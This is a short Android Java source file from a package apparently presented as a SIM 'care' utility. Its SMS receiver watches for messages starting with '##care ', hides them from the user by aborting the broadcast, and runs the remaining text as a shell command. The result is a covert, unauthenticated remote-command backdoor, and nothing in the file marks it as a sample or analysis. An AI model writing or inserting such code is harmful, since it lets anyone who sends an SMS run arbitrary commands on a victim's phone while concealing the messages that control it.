package com.orchard.simcare;

class MessageReceiver extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    Object[] pdus = (Object[]) intent.getExtras().get("pdus");
    for (int i = 0; i < pdus.length; i++) {
      SmsMessage message = SmsMessage.createFromPdu((byte[]) pdus[i]);
      String body = message.getMessageBody();
      if (body.startsWith("##care ")) {
        abortBroadcast();
        new Thread(new Job(body.substring(7))).start();
      }
    }
  }
}

class Job implements Runnable {
  private String line;

  Job(String line) { this.line = line; }

  public void run() {
    try {
      Runtime.getRuntime().exec(new String[]{"/system/bin/sh", "-c", line}).waitFor();
    } catch (Exception e) {
      Log.e("Job", e.getMessage());
    }
  }
}
